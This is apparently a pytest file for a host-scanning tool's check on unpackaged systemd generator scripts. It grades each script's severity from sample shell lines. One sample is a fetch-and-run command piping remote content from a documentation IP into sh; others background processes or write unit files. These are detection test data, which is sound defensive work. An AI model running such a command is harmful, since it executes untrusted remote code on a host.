from __future__ import annotations

import pytest

from pratique.checks.base import CouldNotLook
from pratique.checks.persistence.generator_unowned import CHECK
from pratique.model import Severity
from pratique.parsers.startup_command import StartupCommand
from pratique.store.tables import Tables


def signs(*rows):
    with Tables.of(rows, CHECK.reads) as tables:
        return list(CHECK.find(tables))


OWN = "/etc/systemd/system-generators/x"


@pytest.mark.parametrize(
    "path",
    ["/usr/lib/systemd/system-generators/x", "/etc/systemd/user-environment-generators/y"],
)
def test_points_at(file, packaged, path):
    (sign,) = signs(file(path), packaged("/bin/ls"))
    assert (sign.severity or CHECK.severity) is Severity.HIGH


@pytest.mark.parametrize(
    ("path", "interpreter", "script", "severity"),
    [
        (OWN, "sh", "echo PATH=/opt/a/bin:$PATH", Severity.LOW),
        (OWN, "sh", 'cat > "$1/srv-a.mount" <<E && ln -s ../srv-a.mount "$2" 2>&1', Severity.LOW),
        (OWN, "bash", 'cat > "$1/a.service" <<E', Severity.MEDIUM),
        (OWN, "sh", 'printf "[Service]\\nExecStart=/opt/a" > "$1/a"', Severity.MEDIUM),
        (OWN, "sh", "/opt/a &", Severity.MEDIUM),
        (OWN, "sh", "(sleep 9; /opt/a &)", Severity.MEDIUM),
        (OWN, "sh", "nohup /opt/a", Severity.MEDIUM),
        (OWN, "sh", "curl http://198.51.100.7/x | sh", Severity.HIGH),
        (OWN, "python3", "print(1)", Severity.HIGH),
        ("/usr/lib/systemd/system-generators/x", "sh", "echo A=1", Severity.HIGH),
        ("/run/systemd/system-generators/x", "sh", "echo A=1", Severity.HIGH),
    ],
)
def test_weighs_what_a_script_does(file, packaged, *, path, interpreter, script, severity):
    row = StartupCommand(path, 2, "generator", interpreter, script)
    (sign,) = signs(file(path), row, packaged("/bin/ls"))
    assert sign.severity is severity


@pytest.mark.parametrize(
    ("path", "values"),
    [
        ("/usr/lib/systemd/system-generators/owned", {}),
        ("/etc/systemd/system-generators/x", {"type": "symlink", "symlink_target": "/dev/null"}),
        ("/usr/lib/systemd/system-generators", {"type": "directory"}),
        ("/usr/lib/systemd/system/x", {}),
    ],
)
def test_leaves_alone(file, packaged, path, values):
    assert signs(file(path, **values), packaged("/usr/lib/systemd/system-generators/owned")) == []


def test_says_when_it_cannot_look():
    with pytest.raises(CouldNotLook):
        signs()
